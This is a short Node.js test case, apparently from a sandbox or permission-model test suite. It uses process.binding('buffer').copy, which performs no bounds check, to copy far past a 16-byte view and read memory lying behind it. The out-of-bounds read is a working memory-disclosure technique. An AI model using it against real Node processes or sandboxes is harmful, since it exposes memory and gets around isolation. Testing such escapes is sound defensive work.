// class: machine_code
// rule: native_code
// needs: node>=22.0
// success: JavaScript reads the memory behind a buffer by the function under Buffer.copy, which
//   checks no bounds
// proof: word
// open: process.binding hands out functions that Node was built with; they check no bounds and
//   make no call of libc. Only Node's permission model takes it away, with files, workers and
//   addons that functions need
process.noDeprecation = true;
const { attempt } = require("./attack.js");

attempt(() => {
  const whole = Buffer.from(new ArrayBuffer(8192));
  const behind = Buffer.from("behind it");
  behind.copy(whole, 4096);
  const { copy } = process.binding("buffer");
  // A view of 16 bytes: what comes behind them is not its own.
  const view = new Uint8Array(whole.buffer, 0, 16);
  const target = new Uint8Array(8192);
  copy(view, target, 0, 0, 8192);
  return Buffer.from(target.buffer, 4096, 9).equals(behind);
});
